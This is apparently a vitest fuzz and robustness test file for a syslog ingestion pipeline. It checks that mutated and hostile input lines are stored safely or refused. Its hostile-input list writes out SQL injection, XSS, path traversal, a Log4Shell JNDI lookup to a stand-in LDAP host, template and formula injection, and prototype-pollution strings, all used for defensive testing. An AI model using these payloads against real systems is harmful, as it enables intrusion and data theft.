import { setImmediate as breathe } from 'node:timers/promises';
import { expect, test } from 'vitest';
import { limits } from '../schemas/limits.ts';
import { cpuMs } from '../test/support/cpu-time.ts';
import { long, progress } from '../test/support/long-run.ts';
import { Framer } from './sources/syslog/framing.ts';
import { balanceOf, eventsIn, openBench, rejectionsIn } from './test-bench.ts';

const now = Date.UTC(2026, 10, 21, 1, 9);
const clock = { now: () => now, real: (ms: number) => ms };
const mutations = long ? 1_000_000 : 50_000;
/** Through one pipeline, whose log is in memory. */
const spell = 50_000;

/** Small seeded generator (xorshift32): the same inputs on every run. */
function randomFrom(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
}

const seeds = [
  '<134>1 2026-11-21T01:08:51.488555+00:00 gw-1 tlsgw 7 auth-failed [tocsin@32473 device="pump-1" seq="17" peer="203.0.113.7:5544" reason="a \\"b\\""] x\n',
  '<36>Nov 21 01:08:51 vm openvpn[3]: hello 1\n',
  '<36>2026-11-21T01:08:51.488555+00:00 vm tocsin: {"kind":"auth-failed","device":"a","attributes":{"a":"b"}}\n',
  '65 <36>1 2026-11-21T01:08:51.488555+00:00 vm openvpn - - -  hello 1\n',
];
const poison = [
  '\0',
  '\r\n',
  '\n\n',
  '\u001b[31m',
  '"',
  '\\',
  ']',
  '[',
  '__proto__',
  "'; DROP TABLE events; --",
  '<script>',
  '\ufeff',
  '9'.repeat(30),
  '\u202e',
  '{'.repeat(40),
];

function mutate(seed: Buffer, random: (below: number) => number): Buffer {
  let bytes = Buffer.from(seed);
  for (let n = 1 + random(4); n > 0; n--) {
    const at = random(bytes.length + 1);
    const kind = random(5);
    if (kind === 0) bytes[at % Math.max(1, bytes.length)] = random(256);
    else if (kind === 1)
      bytes = Buffer.concat([
        bytes.subarray(0, at),
        Buffer.from(poison[random(poison.length)] ?? ''),
        bytes.subarray(at),
      ]);
    else if (kind === 2)
      bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(Math.min(bytes.length, at + random(20)))]);
    else if (kind === 3) bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(random(bytes.length + 1))]);
    else bytes = Buffer.from(bytes.subarray(0, Math.max(1, at)));
  }
  return bytes;
}

test(
  `${mutations} mutated streams end as events or dead letters and never as a throw`,
  async () => {
    const random = randomFrom(20_261_121);
    for (let given = spell; given <= mutations; given += spell) {
      await endsWell(random);
      progress(`${given} of ${mutations} mutated streams`);
      await breathe();
    }
  },
  60_000 + mutations * 2,
);

async function endsWell(random: (below: number) => number): Promise<void> {
  const { ingest, appender, log } = openBench({ clock, partitions: 1 });
  const intake = ingest.open({ tenant: 'acme', gateway: 'gw-1', trust: 'token', listener: 'syslog-tcp' });
  const sink = {
    line: (line: Parameters<typeof intake.line>[0]): void => void intake.line(line, now),
    blank: (): void => intake.blank(),
    broken: (reason: string, bytes: Uint8Array, length: number): void => intake.broken(reason, bytes, length, now),
  };
  for (let i = 0; i < spell; i++) {
    const bytes = mutate(Buffer.from(seeds[i % seeds.length] ?? ''), random);
    const framer = new Framer();
    const at = random(bytes.length + 1);
    framer.push(bytes.subarray(0, at), sink);
    framer.push(bytes.subarray(at), sink);
    framer.end(sink);
  }
  ingest.close(intake);
  await appender.close();
  const balance = balanceOf(log);
  expect(balance.residual).toBe(0);
  expect(balance.stored).toBeGreaterThan(spell / 10);
  expect(balance.deadLettered).toBeGreaterThan(spell / 10);
  expect(rejectionsIn(log).every(({ reason }) => /^[a-z0-9_]+$/.test(reason))).toBe(true);
}

const hostile = [
  '\0',
  '\r',
  '\u001b]0;x\u0007',
  '\u202etxt.exe',
  '../../etc/passwd',
  '%2e%2e%2f',
  "'; DROP TABLE events; --",
  '<img src=x onerror=alert(1)>',
  '=cmd()',
  '__proto__',
  '{{7*7}}',
  '${jndi:ldap://192.0.2.1/a}',
  '\ud800',
  '\ufffe',
  'a'.repeat(1_025),
];

test.each(hostile)('%j in any place of a line is stored as it came or refused', async (payload) => {
  const { ingest, appender, log } = openBench({ clock, partitions: 1 });
  const escaped = payload.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]');
  const places = [
    'device',
    'kind',
    'session',
    'boot',
    'nonce',
    'cert',
    'serial',
    'issuer',
    'subject',
    'reason',
    'outcome',
    'peer',
    'seq',
    'note',
  ];
  const lines = places.map(
    (name) =>
      `<13>1 - h a p auth-failed [tocsin@32473 ${name === 'device' ? '' : 'device="d" '}${name}="${escaped}"] x`,
  );
  lines.push(
    `<13>1 - ${payload.replaceAll(' ', '')} a p m - x`,
    `<13>Nov 21 01:08:51 ${payload} a: x`,
    `<13>a: ${payload}`,
    payload,
  );
  const intake = ingest.open({ tenant: 'acme', gateway: '', trust: 'none', listener: 'syslog-udp' });
  for (const text of lines)
    intake.line(
      { text, start: 0, end: text.length, bytes: Buffer.from(text), from: 0, to: Buffer.byteLength(text) },
      now,
    );
  ingest.close(intake);
  await appender.close();
  expect(balanceOf(log)).toMatchObject({ offered: lines.length, residual: 0 });
  for (const event of eventsIn(log)) {
    expect(event.claimedDevice).toMatch(/^[A-Za-z0-9._:-]{0,64}$/);
    expect(event.session).toMatch(/^[A-Za-z0-9._:-]{0,64}$/);
    for (const part of event.attributes) expect(part.length).toBeLessThanOrEqual(limits.attributeChars);
  }
});

test('a frame of 64 KiB of any one byte takes no longer than its length', () => {
  const { ingest } = openBench({ clock, partitions: 1 });
  const intake = ingest.open({ tenant: 'acme', gateway: '', trust: 'none', listener: 'syslog-udp' });
  const time = (size: number, prefix: string, unit: string): number => {
    const text = prefix + unit.repeat(Math.floor(size / unit.length));
    const bytes = Buffer.from(text);
    const began = cpuMs();
    for (let i = 0; i < 5; i++)
      intake.line({ text, start: 0, end: text.length, bytes, from: 0, to: bytes.length }, now);
    return cpuMs() - began;
  };
  for (const prefix of [
    '',
    '<13>',
    '<13>1 - h a p m [',
    '<13>1 - h a p m [tocsin@1 a="',
    '<13>1 - h a p m [tocsin@1',
  ]) {
    for (const unit of ['[', ']', '"', '\\', ' ', '=', '1', 'a', '[a]', ' a="b"', '{', ':']) {
      expect(time(limits.frameBytes, prefix, unit), `${prefix}${unit}`).toBeLessThan(500);
    }
  }
});
